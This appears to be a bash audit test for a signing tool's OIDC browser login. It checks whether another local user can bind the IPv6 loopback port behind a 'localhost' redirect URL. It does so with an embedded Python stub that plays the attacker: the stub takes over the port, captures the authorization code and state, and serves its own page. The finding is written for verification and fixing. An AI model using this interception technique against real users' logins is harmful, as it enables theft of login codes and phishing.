#!/usr/bin/env bash
# 02 -- --oidc-redirect-url http://localhost:PORT listens on 127.0.0.1 only,
# so another local user can take [::1]:PORT and receive the redirect (the
# authorization code and state) -- browsers send "localhost" to ::1 first.
# MEDIUM
#
# docs/signing.md: "a listener on 127.0.0.1 (never 0.0.0.0, never ::) ...
# or the port and path of --oidc-redirect-url http://127.0.0.1|localhost
# [:port][/path]"; the code is a secret ("never in a message, in argv or in
# a log"); docs/threat-model.md / tests: the redirect must reach only our
# listener ("the listener answers on 127.0.0.1 only").
# Expected: with a localhost redirect URL nobody else can own the address
# the browser will use: the tool also holds [::1]:PORT (or sends
# redirect_uri=http://127.0.0.1:PORT, or refuses localhost, RFC 8252 §8.3).
# Actual: the tool binds 127.0.0.1:PORT only; any local user binds
# [::1]:PORT while the login waits. Chromium resolves localhost to ::1
# first (checked below when chromium is installed): the attacker gets
# code+state, serves its own page at the login's redirect (phishing), and
# the login never completes. PKCE keeps the stolen code from being
# exchanged, hence not HIGH.
# Usage: localhost_v6.sh /path/to/aicr-evidence
set -u
# setup.sh: BIN, W ($T_WORK, removed at exit), finding_idp (the stand-in
# provider, stopped at exit), finding_ready
. "$(dirname "$0")/setup.sh"
python3 -c 'import socket; s=socket.socket(socket.AF_INET6); s.bind(("::1",0))' 2>/dev/null ||
	{ echo "SETUP: no IPv6 loopback here"; exit 2; }
finding_idp
RPORT=$(free_port)
# the "browser": while the login waits, another local user binds [::1]:PORT;
# then a real browser (if any) follows the redirect the provider would send
cat >"$W/bin/xdg-open" <<PY
#!/usr/bin/env python3
import socket, subprocess, sys, threading, time, urllib.parse, shutil
sys.path.insert(0, "$(cd "$(dirname "$0")/.." && pwd)")
from startpage import resolve  # the start page the tool opens: it refreshes to the authorization URL
q = urllib.parse.parse_qs(urllib.parse.urlparse(resolve(sys.argv[1])).query)
ru = q["redirect_uri"][0]; state = q["state"][0]
port = urllib.parse.urlparse(ru).port
s = socket.socket(socket.AF_INET6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
try:
    s.bind(("::1", port)); s.listen(1)
except OSError as e:
    open("$W/result", "w").write("inuse " + str(e)); sys.exit(0)
got = []
def acc():
    s.settimeout(15)
    try:
        c, _ = s.accept(); got.append(c.recv(4096).split(b"\r\n")[0].decode())
        c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\nConnection: close\r\n\r\nattacker"); c.close()
    except Exception: pass
t = threading.Thread(target=acc); t.start()
if shutil.which("chromium"):
    subprocess.run(["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom",
                    ru + "?code=SECRETCODE&state=" + state], stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL, timeout=20)
t.join(16)
open("$W/result", "w").write("bound " + (got[0] if got else "(no browser request)"))
PY
chmod +x "$W/bin/xdg-open"
finding_ready
env -u SIGSTORE_ID_TOKEN PATH="$W/bin:$PATH" DISPLAY=:99 timeout 60 "$BIN" sigstore sign-bundle \
	--bundle out.json --oidc-provider browser --oidc-issuer "http://127.0.0.1:$PORT" \
	--oidc-redirect-url "http://localhost:$RPORT/auth/callback" --oidc-timeout 25s a.txt >run.out 2>run.err
rc=$?
for _ in $(seq 100); do [ -s result ] && break; sleep 0.2; done
r=$(cat result 2>/dev/null)
case $r in
bound*)
	echo "BUG: another process bound [::1]:$RPORT while the login waited on localhost:$RPORT"
	echo "     the attacker's listener saw: ${r#bound }"
	echo "     the tool: exit $rc, $(tail -1 run.err)"
	exit 1 ;;
inuse*) echo "fixed: [::1]:$RPORT is held by the tool"; exit 0 ;;
*)
	if grep -q 'localhost' run.err && [ "$rc" -ne 0 ] && ! grep -q 'log in at' run.err; then
		echo "fixed: a localhost redirect URL is refused"; exit 0
	fi
	echo "SETUP: no result ($(tail -1 run.err))"; exit 2 ;;
esac
